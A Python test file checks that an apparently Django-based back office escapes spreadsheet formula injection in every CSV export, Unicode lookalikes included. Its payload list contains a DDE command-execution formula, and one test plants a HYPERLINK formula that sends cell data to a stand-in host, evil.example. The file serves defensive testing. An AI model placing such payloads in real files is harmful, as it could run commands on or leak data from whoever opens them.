"""Formula injection: whatever somebody is called, no cell of any export is one that a spreadsheet would run."""

import csv
import io
import unicodedata
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backoffice.operators.models import Operator
from backoffice.ui import sheets
from tests.access_table import TABLE
from tests.emptying import guards_aside
from tests.test_access import enter

DANGEROUS = set("=+-@\t\r|%")
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "|calc", "%0A=1", "=cmd|'/c calc'!A0", '=HYPERLINK("https://evil.example","x")',
    "＝1+1", "＋1", "－1", "＠SUM", "｜x", "％x", "﹢1", "﹣1", "﹦1", "﹫x", "﬩1", "⁺1", "₌1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u202e=1", "\x00=1", "\n=1", "  \t =1",
    '"=1', "';=1", "x\n=1", "x,=1", 'x",=1', "x;=1", "x\r\n=1+1",
]  # fmt: skip


def read(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def runs(cell):
    """Whether a spreadsheet could take it for more than text: by its first visible sign, in whatever width."""
    plain = unicodedata.normalize("NFKC", cell)
    visible = next((c for c in plain if not c.isspace() and unicodedata.category(c) not in ("Cf", "Cc")), "")
    return bool({cell[:1], plain[:1], visible} & DANGEROUS)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text_and_stays_in_its_cell(formula):
    (_, row) = read(sheets.written(["a", "b"], [[formula, "next"]]))

    assert not runs(row[0])
    assert row[1:] == ["next"]
    kept = formula.replace("\x00", "")
    assert row[0] in (kept, f"'{kept}")


@given(st.text(), st.text(alphabet="=+-@\t\r|%＝＋－＠ \u200b\n\x00'\"a1", max_size=8))
def test_no_text_at_all_becomes_one(any_text, odd):
    for words in (any_text, odd, odd + any_text):
        (_, (cell, beside)) = read(sheets.written(["a", "b"], [[words, "next"]]))
        assert not runs(cell), (words, cell)
        assert beside == "next"


@given(
    st.decimals(allow_nan=False, allow_infinity=False, places=2, min_value=-(10**12), max_value=10**12), st.integers()
)
def test_numbers_stay_numbers(amount, count):
    (_, row) = read(sheets.written(["a", "b"], [[amount, count]]))

    assert (Decimal(row[0]), int(row[1])) == (amount, count)


def test_times_and_answers_are_written_alike_everywhere():
    row = [datetime(2026, 11, 23, 9, 12, tzinfo=UTC), date(2026, 11, 23), True, False, None, Decimal("-0.50")]

    assert read(sheets.written("abcdef", [row]))[1] == ["2026-11-23T09:12:00Z", "2026-11-23", "yes", "no", "", "-0.50"]


@pytest.mark.django_db
def test_every_export_of_the_house_is_tried_with_a_person_of_that_name():
    """Each address that answers with a file: a new one is in it by itself."""
    clients = {role: enter(role) for role in ("auditor", "supervisor", "finance", "funding")}
    name = '=HYPERLINK("https://evil.example?x="&A1,"Amelia")'
    with guards_aside():
        Operator.objects.filter(username="finance").update(name=name, email="+1@evil.example")
    seen = []

    for route, rows in TABLE.items():
        if any(rows["GET"]) and "<" not in route:
            for client in clients.values():
                answer = client.get(f"/{route}")
                if answer.headers.get("Content-Type", "").startswith("text/csv"):
                    cells = [cell for row in read(answer.content.decode("utf-8-sig")) for cell in row]
                    assert [cell for cell in cells if runs(cell)] == [], route
                    seen += cells

    assert f"'{name}" in seen
